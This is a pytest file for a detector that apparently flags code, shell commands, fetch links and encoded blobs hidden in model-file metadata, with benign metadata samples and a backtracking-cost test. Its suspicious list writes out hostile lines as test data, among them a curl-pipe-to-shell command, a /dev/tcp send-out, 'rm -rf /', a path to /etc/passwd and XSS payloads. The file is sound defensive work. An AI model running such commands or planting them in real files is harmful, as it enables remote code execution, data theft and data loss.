"""What counts as a payload in metadata, and what does not."""

import base64
import time

import pytest

from hallmarked.checks.serialization.payload import find_payloads

SUSPICIOUS = [
    ("", "import os; os.system('id')"),
    ("", "x\nfrom subprocess import run\n"),
    ("", "import ctypes"),
    ("", "__import__('os')"),
    ("", "lambda: eval (compile(x, '', 'exec'))"),
    ("", "subprocess.run(['ls'])"),
    ("", "base64.b64decode(data)"),
    ("", "<script src=x></script>"),
    ("", "<img src=x onerror=alert(1)>"),
    ("", "javascript:alert(1)"),
    ("", "curl -s http://host/x | sh"),
    ("", "rm -rf /"),
    ("", "cat x > /dev/tcp/10.0.0.1/80"),
    ("", "#!/bin/sh\nid"),
    ("", "powershell -enc AAAA"),
    ("", "\\x48\\x65\\x6c\\x6c\\x6f\\x20\\x57\\x6f\\x72"),
    ("", "../../../../etc/passwd"),
    ("", "http://198.51.100.7/model"),
    ("", "see https://host.example/run.sh"),
    ("callback_url", "https://host.example/a"),
    ("", base64.b64encode(b"import os; os.system('touch /somewhere')  ").decode()),
    ("", base64.b64encode(b"\x7fELF" + bytes(60)).decode()),
    ("", (b"MZ\x90" + bytes(60)).hex()),
]

ORDINARY = [
    ("format", "pt"),
    ("version", "1.2.3"),
    (
        "description",
        "A small transformer model for text classification, imported from an earlier project; see the paper.",
    ),
    ("source_url", "https://host.example/org/model"),
    ("modelspec.sai_model_spec", "1.0.0"),
    ("modelspec.implementation", "https://github.com/Stability-AI/generative-models"),
    ("modelspec.hash_sha256", "ab" * 32),
    (
        "modelspec.thumbnail",
        "data:image/jpeg;base64," + base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8).decode(),
    ),
    ("ss_tag_frequency", '{"dir": {"1girl": 20, "solo": 3, "object (thing)": 1}}'),
    ("ss_training_comment", "trained from scratch; import of captions went well, evaluation (eval) at 10k steps"),
    ("ss_bucket_info", '{"buckets": {"0": {"resolution": [512, 512], "count": 100}}}'),
    ("ss_optimizer", "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1,betas=(0.9, 0.99))"),
    ("note", "We import data from sensors, then execute (carefully) the plan."),
    ("training_config", '{"lr": 1e-4, "path": "../data/train.json", "hidden_act": "gelu"}'),
    ("download_size", "4 GB"),
    ("title", "https://host.example/wiki/%E4%B8%AD%E6%96%87%E7%BB%B4%E5%9F%BA"),
    ("title", '{"t": "\\u00e9\\u00e8\\u00e0\\u00e7\\u00f9\\u00ea\\u00eb\\u00ef\\u00f4"}'),
]


@pytest.mark.parametrize(("name", "text"), SUSPICIOUS)
def test_payloads_are_seen(name, text):
    """Code, commands, fetching links and hidden blobs are reported."""
    assert list(find_payloads(text, name))


@pytest.mark.parametrize(("name", "text"), ORDINARY)
def test_ordinary_metadata_is_quiet(name, text):
    """What training tools really write into metadata is not reported."""
    assert list(find_payloads(text, name)) == []


@pytest.mark.parametrize(
    "unit",
    [
        "\\",
        "<",
        "< ",
        "rm -rr",
        "r",
        " ",
        "import ",
        "curl -a ",
        "a.",
        "\n \t",
        "os ",
        "&#1;",
        "%4",
        "A",
        "f0",
        ".py?",
        "../",
        "http://",
    ],
)
def test_hostile_repetition_costs_little(unit):
    """No pattern can be made to backtrack for long."""
    started = time.process_time()
    list(find_payloads(unit * (1_000_000 // len(unit)) + "!"))
    assert time.process_time() - started < 5
